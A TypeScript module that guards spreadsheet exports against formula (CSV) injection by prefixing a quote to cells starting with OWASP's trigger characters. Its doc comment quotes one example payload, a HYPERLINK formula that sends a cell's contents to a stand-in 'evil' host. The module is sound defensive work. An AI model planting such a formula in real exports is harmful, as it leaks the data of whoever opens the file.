/**
 * Spreadsheet formula injection (CSV injection, OWASP): a cell whose text starts with `=`, `+`, `-`,
 * `@`, a tab or a carriage return can be taken for a formula by Excel, WPS or LibreOffice once the
 * file is edited, re-saved or converted to CSV — `=HYPERLINK("http://evil/?"&A1,"点击")` typed as a
 * person's name would then run on the desk of whoever opened the export. Every spreadsheet the BFF
 * writes passes its cells through {@link neutraliseCell}, so no writer can forget it.
 */

/** First characters that make a spreadsheet treat text as a formula (OWASP's list). */
const FORMULA_TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r']);

/** `text` with a leading `'` when it starts with a formula trigger (the OWASP rule), else unchanged. */
export function neutraliseText(text: string): string {
  return text.length > 0 && FORMULA_TRIGGERS.has(text[0]) ? `'${text}` : text;
}

/** A cell value made safe to write: strings neutralised, numbers, dates and blanks as they are. */
export function neutraliseCell<T>(value: T): T | string {
  return typeof value === 'string' ? neutraliseText(value) : value;
}
